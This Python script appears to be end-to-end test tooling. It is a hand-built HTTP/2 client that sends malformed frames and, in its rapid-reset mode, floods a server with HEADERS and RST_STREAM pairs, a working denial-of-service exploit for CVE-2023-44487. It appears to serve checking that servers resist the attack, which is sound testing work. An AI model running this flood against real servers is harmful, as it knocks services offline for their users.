#!/usr/bin/python3
"""A misbehaving HTTP/2 (h2c, prior knowledge) client, run inside a pod by the e2e tests.
Frames are built by hand (a well-behaved library would refuse to send them); response
headers are decoded with hpack (a dependency of Debian's python3-h2).

  h2_abuse.py HOST PORT --mode get|garbage|rapid-reset [--streams N] [--timeout S]
              [--authority A] [--path /]
  get          control: one GET, waits for its response HEADERS and the end of its stream
  garbage      preface + SETTINGS, waits for the server's SETTINGS, then sends bytes that
               are no HTTP/2 frame ("this is not an http/2 frame..." read as a frame header
               means a 7 MB frame: FRAME_SIZE_ERROR)
  rapid-reset  preface + SETTINGS, then N times HEADERS(END_STREAM) + RST_STREAM(CANCEL) on
               streams 1, 3, 5, ... as fast as the socket takes them (CVE-2023-44487)
Afterwards it reads until the server closes or --timeout (default 10 s) passes; SETTINGS and
PING are acknowledged all along. Prints one JSON object and exits 0:
  {"mode", "goaway": a GOAWAY arrived, "goaway_error": its error code name, "last_stream_id",
   "closed": the server closed (EOF or reset), "reset": by RST, "streams_sent",
   "send_error": text or null, "responses": response HEADERS received, "rst_received",
   "status": the :status of the get mode's response or null, "elapsed_s"}
"""
import argparse
import json
import socket
import struct
import threading
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
ERRORS = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR",
          "SETTINGS_TIMEOUT", "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL",
          "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY",
          "HTTP_1_1_REQUIRED"]
GARBAGE = b"this is not an http/2 frame, just text after the preface\r\n" * 4


def frame(ftype, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + \
        struct.pack(">I", stream_id) + payload


def header_block(authority, path):
    """:method GET, :scheme http, :path, :authority as literals without indexing (no
    dynamic table state: the same bytes are valid for every stream)."""
    def literal(index, value):
        value = value.encode()
        return bytes([index]) + bytes([len(value)]) + value  # 4-bit prefix index, no Huffman
    return b"\x82\x86" + literal(4, path) + literal(1, authority)  # GET, http, :path, :authority


class Conn:
    def __init__(self, sock):
        self.sock = sock
        self.wlock = threading.Lock()
        self.out = {"goaway": False, "goaway_error": None, "last_stream_id": None,
                    "closed": False, "reset": False, "responses": 0, "rst_received": 0,
                    "status": None}
        self.server_settings = threading.Event()
        self.ended = set()  # streams the server ended
        self.done = threading.Event()
        self.decoder = hpack.Decoder()

    def send(self, data):
        with self.wlock:
            self.sock.sendall(data)

    def reader(self):
        buf = bytearray()
        try:
            while True:
                data = self.sock.recv(65536)
                if not data:
                    self.out["closed"] = True
                    return
                buf += data
                while len(buf) >= 9:
                    n = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + n:
                        break
                    ftype, flags = buf[3], buf[4]
                    sid = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
                    payload = bytes(buf[9:9 + n])
                    del buf[:9 + n]
                    self.on_frame(ftype, flags, sid, payload)
        except (ConnectionResetError, BrokenPipeError):
            # A reset seen by recv, or by the ACK this thread was sending (EPIPE): either way
            # the server ended the connection.
            self.out["closed"] = self.out["reset"] = True
        except OSError:
            pass
        finally:
            self.done.set()
            self.server_settings.set()

    def on_frame(self, ftype, flags, sid, payload):
        if ftype == SETTINGS and not flags & ACK:
            self.send(frame(SETTINGS, ACK, 0))
            self.server_settings.set()
        elif ftype == PING and not flags & ACK:
            self.send(frame(PING, ACK, 0, payload))
        elif ftype == GOAWAY:
            last, code = struct.unpack(">II", payload[:8])
            self.out.update(goaway=True, last_stream_id=last & 0x7FFFFFFF,
                            goaway_error=ERRORS[code] if code < len(ERRORS) else str(code))
        elif ftype == RST_STREAM:
            self.out["rst_received"] += 1
        elif ftype == HEADERS:
            self.out["responses"] += 1
            block = payload
            if flags & 0x8:  # PADDED
                block = block[1:len(block) - block[0]]
            if flags & 0x20:  # PRIORITY
                block = block[5:]
            try:
                for name, value in self.decoder.decode(block):
                    if name in (":status", b":status"):
                        self.out["status"] = int(value)
            except Exception:  # noqa: BLE001 - CONTINUATION or a broken block: keep going
                pass
            if flags & END_STREAM:
                self.ended.add(sid)
        elif ftype == DATA and flags & END_STREAM:
            self.ended.add(sid)


def main():
    parser = argparse.ArgumentParser(description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--mode", choices=["get", "garbage", "rapid-reset"], required=True)
    parser.add_argument("--streams", type=int, default=10000)
    parser.add_argument("--timeout", type=float, default=10)
    parser.add_argument("--authority", default=None)
    parser.add_argument("--path", default="/")
    args = parser.parse_args()
    authority = args.authority or f"{args.host}:{args.port}"
    began = time.monotonic()
    sock = socket.create_connection((args.host, args.port), timeout=args.timeout)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock.settimeout(None)
    conn = Conn(sock)
    reader = threading.Thread(target=conn.reader, daemon=True)
    reader.start()
    out = {"mode": args.mode, "streams_sent": 0, "send_error": None}
    try:
        conn.send(PREFACE + frame(SETTINGS, 0, 0))
        if args.mode == "get":
            conn.send(frame(HEADERS, END_STREAM | END_HEADERS, 1,
                            header_block(authority, args.path)))
            out["streams_sent"] = 1
            deadline = time.monotonic() + args.timeout
            while 1 not in conn.ended and not conn.done.is_set() and \
                    time.monotonic() < deadline:
                time.sleep(0.01)
            conn.send(frame(GOAWAY, 0, 0, struct.pack(">II", 0, 0)))
            sock.shutdown(socket.SHUT_WR)
        elif args.mode == "garbage":
            conn.server_settings.wait(args.timeout)
            conn.send(GARBAGE)
        else:
            block = header_block(authority, args.path)
            cancel = struct.pack(">I", 8)
            batch = 200
            sid = 1
            while out["streams_sent"] < args.streams and not conn.done.is_set():
                n = min(batch, args.streams - out["streams_sent"])
                data = bytearray()
                for _ in range(n):
                    data += frame(HEADERS, END_STREAM | END_HEADERS, sid, block)
                    data += frame(RST_STREAM, 0, sid, cancel)
                    sid += 2
                conn.send(bytes(data))
                out["streams_sent"] += n
    except OSError as e:
        out["send_error"] = repr(e)
    conn.done.wait(max(0.0, args.timeout - (time.monotonic() - began)))
    out.update(conn.out)
    out["elapsed_s"] = round(time.monotonic() - began, 3)
    try:
        sock.close()
    except OSError:
        pass
    print(json.dumps(out), flush=True)


if __name__ == "__main__":
    main()
